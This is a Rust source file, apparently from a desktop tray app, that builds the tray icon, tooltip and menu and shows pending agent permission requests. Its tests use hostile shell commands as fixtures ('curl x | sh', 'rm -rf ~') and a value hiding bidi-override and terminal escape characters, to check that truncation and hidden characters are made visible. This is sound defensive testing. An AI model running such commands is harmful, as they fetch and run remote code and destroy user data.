//! What the tray shows, derived from `State` alone: the icon, the tooltip and
//! the menu. The tray rebuilds all three from this view on every change and
//! never patches them piecemeal.

use super::model::{PermissionRequest, QuestionRequest};
use super::sessions::{Activity, Pending, Session};
use super::visible_text::visible;
use super::{ServerState, State};
use crate::config::ServerMode;

/// The icon's state, in order of what matters most to the user.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IconState {
    /// Failed, auth required or unreachable: nothing works until it is fixed.
    Error,
    /// A permission or question is waiting for the user.
    Attention,
    /// Sessions are busy (how many).
    Working(usize),
    Starting,
    Stopped,
    Idle,
}

impl IconState {
    /// The icon file's name in `icons/png/<size>/` (badged for 1–9 and 9+).
    pub fn icon_name(self) -> String {
        match self {
            IconState::Error => "error".into(),
            IconState::Attention => "attention".into(),
            IconState::Working(0) => "working".into(),
            IconState::Working(n) if n <= 9 => format!("working-{n}"),
            IconState::Working(_) => "working-9plus".into(),
            IconState::Starting => "starting".into(),
            IconState::Stopped => "stopped".into(),
            IconState::Idle => "idle".into(),
        }
    }
}

/// A menu command, turned into a core event (or a desktop action) by the tray.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum MenuAction {
    OpenQuickChat,
    OpenSession(String),
    StartServer,
    StopServer,
    RestartServer,
    CopyServerUrl,
    /// The popover's log page.
    ViewLogs,
    OpenLogFolder,
    OpenSettings,
    OpenSetup,
    /// The popover's pair page: a QR code for the remote gateway.
    PairPhone,
    ToggleAutostart,
    CopyDiagnostics,
    Quit,
}

impl MenuAction {
    /// A stable id for menus that name their entries by string (tray-icon's,
    /// on the platforms that use it).
    pub fn id(&self) -> String {
        match self {
            MenuAction::OpenQuickChat => "open-quick-chat".into(),
            MenuAction::OpenSession(id) => format!("open-session:{id}"),
            MenuAction::StartServer => "server-start".into(),
            MenuAction::StopServer => "server-stop".into(),
            MenuAction::RestartServer => "server-restart".into(),
            MenuAction::CopyServerUrl => "copy-server-url".into(),
            MenuAction::ViewLogs => "view-logs".into(),
            MenuAction::OpenLogFolder => "open-log-folder".into(),
            MenuAction::OpenSettings => "settings".into(),
            MenuAction::OpenSetup => "setup".into(),
            MenuAction::PairPhone => "pair-phone".into(),
            MenuAction::ToggleAutostart => "autostart".into(),
            MenuAction::CopyDiagnostics => "copy-diagnostics".into(),
            MenuAction::Quit => "quit".into(),
        }
    }

    pub fn from_id(id: &str) -> Option<Self> {
        Some(match id {
            "open-quick-chat" => MenuAction::OpenQuickChat,
            "server-start" => MenuAction::StartServer,
            "server-stop" => MenuAction::StopServer,
            "server-restart" => MenuAction::RestartServer,
            "copy-server-url" => MenuAction::CopyServerUrl,
            "view-logs" => MenuAction::ViewLogs,
            "open-log-folder" => MenuAction::OpenLogFolder,
            "settings" => MenuAction::OpenSettings,
            "setup" => MenuAction::OpenSetup,
            "pair-phone" => MenuAction::PairPhone,
            "autostart" => MenuAction::ToggleAutostart,
            "copy-diagnostics" => MenuAction::CopyDiagnostics,
            "quit" => MenuAction::Quit,
            other => MenuAction::OpenSession(other.strip_prefix("open-session:")?.to_string()),
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum MenuItem {
    /// Informational text (the state line, a session, a request).
    Label(String),
    Action {
        action: MenuAction,
        text: String,
        enabled: bool,
    },
    /// A checkbox entry showing a real on/off state.
    Check {
        action: MenuAction,
        text: String,
        checked: bool,
    },
    Submenu {
        text: String,
        items: Vec<MenuItem>,
    },
    Separator,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrayView {
    pub icon: IconState,
    pub title: String,
    pub tooltip: String,
    pub menu: Vec<MenuItem>,
}

/// Sessions and requests listed in the menu at most.
const MENU_LIST_LIMIT: usize = 6;
impl TrayView {
    pub fn derive(state: &State) -> Self {
        let server = state.server_state();
        let working: Vec<_> = state
            .sessions
            .iter()
            .filter(|s| s.activity.is_working())
            .collect();
        let permissions: Vec<_> = state
            .sessions
            .iter()
            .flat_map(|s| s.permissions.iter().map(move |p| (s, p)))
            .collect();
        let questions: Vec<_> = state
            .sessions
            .iter()
            .flat_map(|s| s.questions.iter().map(move |q| (s, q)))
            .collect();
        let icon = icon(server, working.len(), permissions.len() + questions.len());

        let mut state_line = status_line(state);
        if let Some(used) = &state.resource_use {
            state_line = format!("{state_line} · {}", used.describe());
        }
        let tooltip = tooltip(state, &state_line, icon);

        let mut menu = vec![MenuItem::Label(state_line)];
        menu.extend(attention_items(state, &working, &permissions, &questions));
        menu.extend(controls(state, server));

        TrayView {
            icon,
            title: "OpenCode Nexus".into(),
            tooltip: tooltip.join("\n"),
            menu,
        }
    }
}

/// The icon: trouble first, then what waits for the user, then work.
fn icon(server: ServerState, working: usize, waiting: usize) -> IconState {
    match server {
        ServerState::Failed | ServerState::AuthRequired | ServerState::Unreachable => {
            IconState::Error
        }
        ServerState::Starting | ServerState::Restarting => IconState::Starting,
        ServerState::Stopped => IconState::Stopped,
        ServerState::Running if waiting > 0 => IconState::Attention,
        ServerState::Running if working > 0 => IconState::Working(working),
        ServerState::Running => IconState::Idle,
    }
}

/// The tooltip's lines: the state, where the server is, and any warning.
fn tooltip(state: &State, state_line: &str, icon: IconState) -> Vec<String> {
    let mut tooltip = vec![state_line.to_string()];
    if let Some(url) = &state.url {
        let version = state
            .version
            .as_deref()
            .map(|v| format!(" (opencode {v})"))
            .unwrap_or_default();
        tooltip.push(format!("{url}{version}"));
    }
    if state.unsecured {
        tooltip.push("Warning: the server accepts requests without a password".into());
    }
    if state.mode == ServerMode::Attach
        && state
            .url
            .as_deref()
            .is_some_and(super::status::password_in_clear)
    {
        tooltip.push(format!("Warning: {}", super::status::PASSWORD_IN_CLEAR));
    }
    if let Some(error) = &state.last_error
        && icon == IconState::Error
    {
        tooltip.push(format!("Last error: {}", one_line(error, 160)));
    }
    if let Some(problem) = &state.config_problem {
        tooltip.push(format!(
            "config.toml not applied (using the last good settings): {}",
            one_line(problem, 160)
        ));
    }
    tooltip
}

/// What needs a look: setup or config trouble, then the sessions at work
/// and the requests waiting for the user (a few of each).
fn attention_items(
    state: &State,
    working: &[&Session],
    permissions: &[(&Session, &Pending<PermissionRequest>)],
    questions: &[(&Session, &Pending<QuestionRequest>)],
) -> Vec<MenuItem> {
    let mut menu = Vec::new();
    if state.config_problem.is_some() {
        menu.push(entry(
            MenuAction::OpenSettings,
            "config.toml has an error — Settings…",
            true,
        ));
    }
    if !state.configured {
        menu.push(entry(MenuAction::OpenSetup, "Set up OpenCode Nexus…", true));
    }
    for session in working.iter().take(MENU_LIST_LIMIT) {
        let status = match &session.activity {
            Activity::Retry { attempt, .. } => format!("retrying (attempt {attempt})"),
            _ => "working".into(),
        };
        menu.push(MenuItem::Action {
            action: MenuAction::OpenSession(session.id.clone()),
            text: format!("{} — {status}", title_of(session.title.as_deref())),
            enabled: true,
        });
    }
    for (session, p) in permissions.iter().take(MENU_LIST_LIMIT) {
        let what = p.request.detail.as_deref().unwrap_or("");
        menu.push(MenuItem::Action {
            action: MenuAction::OpenSession(session.id.clone()),
            text: format!(
                "Permission: {} {} — {}",
                one_line(&p.request.permission, 24),
                request_line(what, 60),
                title_of(session.title.as_deref())
            ),
            enabled: true,
        });
    }
    for (session, q) in questions.iter().take(MENU_LIST_LIMIT) {
        let text = q.request.first_question();
        menu.push(MenuItem::Action {
            action: MenuAction::OpenSession(session.id.clone()),
            text: format!(
                "Question: {} — {}",
                one_line(text, 60),
                title_of(session.title.as_deref())
            ),
            enabled: true,
        });
    }
    menu
}

/// The fixed part of the menu: quick chat, the server's controls, logs,
/// settings and quit, enabled as the server state allows.
fn controls(state: &State, server: ServerState) -> Vec<MenuItem> {
    let mut menu = Vec::new();
    menu.push(MenuItem::Separator);
    menu.push(entry(
        MenuAction::OpenQuickChat,
        "Open Quick Chat",
        server == ServerState::Running,
    ));
    let managed = state.mode == ServerMode::Managed;
    let (can_start, can_stop) = match server {
        ServerState::Stopped | ServerState::Failed | ServerState::AuthRequired => (true, false),
        ServerState::Starting
        | ServerState::Restarting
        | ServerState::Running
        | ServerState::Unreachable => (false, true),
    };
    menu.push(MenuItem::Submenu {
        text: "Server".into(),
        items: vec![
            MenuItem::Action {
                action: MenuAction::StartServer,
                text: "Start".into(),
                enabled: can_start,
            },
            MenuItem::Action {
                action: MenuAction::StopServer,
                text: if managed { "Stop" } else { "Disconnect" }.into(),
                enabled: can_stop,
            },
            MenuItem::Action {
                action: MenuAction::RestartServer,
                text: if managed { "Restart" } else { "Reconnect" }.into(),
                enabled: server != ServerState::Stopped,
            },
        ],
    });
    menu.push(entry(
        MenuAction::CopyServerUrl,
        "Copy server URL",
        state.url.is_some(),
    ));
    menu.push(entry(MenuAction::ViewLogs, "View server log", managed));
    menu.push(entry(MenuAction::OpenLogFolder, "Open log folder", true));
    menu.push(entry(MenuAction::CopyDiagnostics, "Copy diagnostics", true));
    menu.push(MenuItem::Separator);
    if let Some(enabled) = state.autostart {
        menu.push(MenuItem::Check {
            action: MenuAction::ToggleAutostart,
            text: "Start at login".into(),
            checked: enabled,
        });
    }
    // Always offered: the page itself says when the gateway is off or
    // reachable from this computer only.
    menu.push(entry(MenuAction::PairPhone, "Pair a phone…", true));
    menu.push(entry(MenuAction::OpenSettings, "Settings…", true));
    menu.push(entry(MenuAction::OpenSetup, "First-run setup…", true));
    menu.push(MenuItem::Separator);
    menu.push(entry(MenuAction::Quit, "Quit", true));
    menu
}

/// A menu command entry.
fn entry(action: MenuAction, text: &str, enabled: bool) -> MenuItem {
    MenuItem::Action {
        action,
        text: text.into(),
        enabled,
    }
}

/// "Server running · 2 working · 1 waiting for you": the menu's first line
/// and the popover's status line.
pub fn status_line(state: &State) -> String {
    let summary = super::status::Summary::derive(state);
    state_line(
        summary.state,
        summary.busy,
        summary.pending_permissions + summary.pending_questions,
    )
}

fn state_line(server: ServerState, working: usize, waiting: usize) -> String {
    let server_text = match server {
        ServerState::Stopped => "Server stopped",
        ServerState::Starting => "Server starting…",
        ServerState::Restarting => "Server restarting…",
        ServerState::Running => "Server running",
        ServerState::Failed => "Server failed",
        ServerState::AuthRequired => "Server needs a password",
        ServerState::Unreachable => "Server unreachable",
    };
    let mut parts = vec![server_text.to_string()];
    if working > 0 {
        parts.push(format!("{working} working"));
    }
    if waiting > 0 {
        parts.push(format!("{waiting} waiting for you"));
    }
    parts.join(" · ")
}

fn title_of(title: Option<&str>) -> String {
    one_line(
        title
            .filter(|t| !t.trim().is_empty())
            .unwrap_or("Untitled session"),
        48,
    )
}

/// What a waiting request asks for, on one menu line: invisible characters
/// made visible, and a visible mark of what is cut ("… +2 lines"), so the
/// line never reads as the whole request when it is not.
fn request_line(text: &str, max: usize) -> String {
    let shown = visible(text);
    let lines: Vec<&str> = shown
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .collect();
    let first = lines.first().copied().unwrap_or("");
    let more = match lines.len().saturating_sub(1) {
        0 => String::new(),
        1 => " … +1 line".to_string(),
        n => format!(" … +{n} lines"),
    };
    let room = max.saturating_sub(more.chars().count()).max(8);
    format!("{}{more}", one_line(first, room))
}

/// First line of `text` with invisible characters made visible, at most
/// `max` characters (a cut ends in "…"), for menus and tooltips.
fn one_line(text: &str, max: usize) -> String {
    let line = text.lines().next().unwrap_or("").trim();
    let line = visible(line);
    if line.chars().count() <= max {
        line.to_string()
    } else {
        let cut: String = line.chars().take(max.saturating_sub(1)).collect();
        format!("{cut}…")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::{Event, ExitReport, WatchEvent, reduce};
    use crate::server::events::parse_event;
    use std::time::{Duration, Instant};

    fn state(mode: ServerMode) -> State {
        let url = (mode == ServerMode::Attach).then(|| "http://127.0.0.1:4096".to_string());
        State::new(mode, url, Duration::from_secs(30), Instant::now())
    }

    fn running() -> State {
        let mut s = state(ServerMode::Managed);
        let now = Instant::now();
        reduce(&mut s, Event::StartRequested, now);
        reduce(&mut s, Event::Spawned { launch: 1, pid: 7 }, now);
        reduce(
            &mut s,
            Event::Ready {
                launch: 1,
                url: "http://127.0.0.1:4096".into(),
                version: "1.18.33".into(),
            },
            now,
        );
        reduce(
            &mut s,
            Event::Watch {
                watch: 1,
                event: WatchEvent::Connected {
                    version: None,
                    unsecured: false,
                },
            },
            now,
        );
        s
    }

    fn feed(s: &mut State, lines: &[&str]) {
        for line in lines {
            reduce(
                s,
                Event::Watch {
                    watch: 1,
                    event: WatchEvent::Server(parse_event(line).unwrap()),
                },
                Instant::now(),
            );
        }
    }

    fn busy(id: &str) -> String {
        format!(
            r#"{{"directory":"/p","payload":{{"type":"session.status","properties":{{"sessionID":"{id}","status":{{"type":"busy"}}}}}}}}"#
        )
    }

    fn action(view: &TrayView, wanted: &MenuAction) -> bool {
        fn find(items: &[MenuItem], wanted: &MenuAction) -> Option<bool> {
            items.iter().find_map(|item| match item {
                MenuItem::Action {
                    action, enabled, ..
                } if action == wanted => Some(*enabled),
                MenuItem::Submenu { items, .. } => find(items, wanted),
                _ => None,
            })
        }
        find(&view.menu, wanted).expect("the action is in the menu")
    }

    #[test]
    fn every_server_state_has_its_icon() {
        let mut s = state(ServerMode::Managed);
        assert_eq!(TrayView::derive(&s).icon, IconState::Stopped);
        reduce(&mut s, Event::StartRequested, Instant::now());
        assert_eq!(TrayView::derive(&s).icon, IconState::Starting);
        let mut s = running();
        assert_eq!(TrayView::derive(&s).icon, IconState::Idle);
        reduce(
            &mut s,
            Event::Watch {
                watch: 1,
                event: WatchEvent::Lost {
                    reason: "no data".into(),
                },
            },
            Instant::now(),
        );
        assert_eq!(TrayView::derive(&s).icon, IconState::Error);
        let mut s = running();
        let exit = ExitReport {
            description: "exited".into(),
            permanent: Some("port in use".into()),
        };
        reduce(&mut s, Event::Exited { launch: 1, exit }, Instant::now());
        let view = TrayView::derive(&s);
        assert_eq!(view.icon, IconState::Error);
        assert!(
            view.tooltip.contains("Last error: port in use"),
            "{}",
            view.tooltip
        );
        let mut s = state(ServerMode::Attach);
        reduce(&mut s, Event::StartRequested, Instant::now());
        reduce(
            &mut s,
            Event::Watch {
                watch: 1,
                event: WatchEvent::AuthRejected,
            },
            Instant::now(),
        );
        assert_eq!(TrayView::derive(&s).icon, IconState::Error);
    }

    #[test]
    fn working_counts_and_attention_wins() {
        let mut s = running();
        feed(&mut s, &[&busy("a"), &busy("b")]);
        let view = TrayView::derive(&s);
        assert_eq!(view.icon, IconState::Working(2));
        assert_eq!(view.icon.icon_name(), "working-2");
        assert!(view.tooltip.starts_with("Server running · 2 working"));
        feed(
            &mut s,
            &[
                r#"{"directory":"/p","payload":{"type":"permission.asked","properties":{"id":"per_1","sessionID":"a","permission":"bash","metadata":{"command":"rm -rf build"}}}}"#,
            ],
        );
        let view = TrayView::derive(&s);
        assert_eq!(view.icon, IconState::Attention);
        // Each waiting request opens its session in the quick chat.
        assert!(view.menu.contains(&MenuItem::Action {
            action: MenuAction::OpenSession("a".into()),
            text: "Permission: bash rm -rf build — Untitled session".into(),
            enabled: true,
        }));
        assert_eq!(IconState::Working(12).icon_name(), "working-9plus");
    }

    #[test]
    fn a_waiting_request_line_marks_what_is_cut_and_shows_escapes() {
        let mut s = running();
        feed(
            &mut s,
            &[
                r#"{"directory":"/p","payload":{"type":"permission.asked","properties":{"id":"per_1","sessionID":"a","permission":"bash","metadata":{"command":"echo tidy\ncurl x | sh\nrm -rf ~"}}}}"#,
                r#"{"directory":"/p","payload":{"type":"permission.asked","properties":{"id":"per_2","sessionID":"b","permission":"bash","metadata":{"command":"ls \u202etxt\u001b[2K"}}}}"#,
            ],
        );
        let texts: Vec<String> = TrayView::derive(&s)
            .menu
            .iter()
            .filter_map(|item| match item {
                MenuItem::Action { text, .. } if text.starts_with("Permission:") => {
                    Some(text.clone())
                }
                _ => None,
            })
            .collect();
        assert!(
            texts.contains(&"Permission: bash echo tidy … +2 lines — Untitled session".to_string()),
            "{texts:?}"
        );
        assert!(
            texts.contains(
                &"Permission: bash ls \\u202etxt\\u001b[2K — Untitled session".to_string()
            ),
            "{texts:?}"
        );
    }

    #[test]
    fn the_tooltip_warns_when_the_password_would_cross_the_network_in_clear() {
        for (url, warned) in [
            ("http://192.168.1.20:4096", true),
            ("http://127.0.0.1:4096", false),
            ("https://example.com", false),
        ] {
            let s = State::new(
                ServerMode::Attach,
                Some(url.to_string()),
                Duration::from_secs(30),
                Instant::now(),
            );
            let view = TrayView::derive(&s);
            assert_eq!(
                view.tooltip.contains("plain http"),
                warned,
                "{url}: {}",
                view.tooltip
            );
        }
    }

    #[test]
    fn server_actions_are_enabled_by_state() {
        let s = state(ServerMode::Managed);
        let view = TrayView::derive(&s);
        assert!(action(&view, &MenuAction::StartServer));
        assert!(!action(&view, &MenuAction::StopServer));
        assert!(!action(&view, &MenuAction::CopyServerUrl));
        let view = TrayView::derive(&running());
        assert!(!action(&view, &MenuAction::StartServer));
        assert!(action(&view, &MenuAction::StopServer));
        assert!(action(&view, &MenuAction::RestartServer));
        assert!(action(&view, &MenuAction::CopyServerUrl));
        assert!(action(&view, &MenuAction::Quit));
        assert_eq!(view.title, "OpenCode Nexus");
        assert!(
            view.tooltip
                .contains("http://127.0.0.1:4096 (opencode 1.18.33)")
        );
    }

    #[test]
    fn hostile_titles_are_one_short_line() {
        let mut s = running();
        feed(
            &mut s,
            &[
                r#"{"type":"session.updated","properties":{"info":{"id":"a","title":"line one\nline two <b>x</b> and a very long tail that goes on and on and on"}}}"#,
                &busy("a"),
            ],
        );
        let view = TrayView::derive(&s);
        let label = view.menu.iter().find_map(|i| match i {
            MenuItem::Action { text: t, .. } if t.contains("working") && t.contains("line one") => {
                Some(t.clone())
            }
            _ => None,
        });
        let label = label.expect("the session is listed");
        assert!(
            !label.contains('\n') && !label.contains("line two"),
            "{label}"
        );
    }

    #[test]
    fn pair_a_phone_sits_with_settings_in_every_state() {
        for s in [
            state(ServerMode::Managed),
            running(),
            state(ServerMode::Attach),
        ] {
            let view = TrayView::derive(&s);
            assert!(action(&view, &MenuAction::PairPhone), "always enabled");
            let texts: Vec<&str> = view
                .menu
                .iter()
                .filter_map(|item| match item {
                    MenuItem::Action { text, .. } => Some(text.as_str()),
                    _ => None,
                })
                .collect();
            let pair = texts.iter().position(|t| *t == "Pair a phone…").unwrap();
            assert_eq!(texts[pair + 1], "Settings…", "{texts:?}");
        }
        assert_eq!(MenuAction::PairPhone.id(), "pair-phone");
    }

    #[test]
    fn menu_ids_round_trip() {
        for a in [
            MenuAction::OpenQuickChat,
            MenuAction::OpenSession("ses_1".into()),
            MenuAction::StartServer,
            MenuAction::StopServer,
            MenuAction::RestartServer,
            MenuAction::CopyServerUrl,
            MenuAction::ViewLogs,
            MenuAction::OpenLogFolder,
            MenuAction::OpenSettings,
            MenuAction::OpenSetup,
            MenuAction::PairPhone,
            MenuAction::ToggleAutostart,
            MenuAction::CopyDiagnostics,
            MenuAction::Quit,
        ] {
            assert_eq!(MenuAction::from_id(&a.id()), Some(a));
        }
        assert_eq!(MenuAction::from_id("nonsense"), None);
    }
}
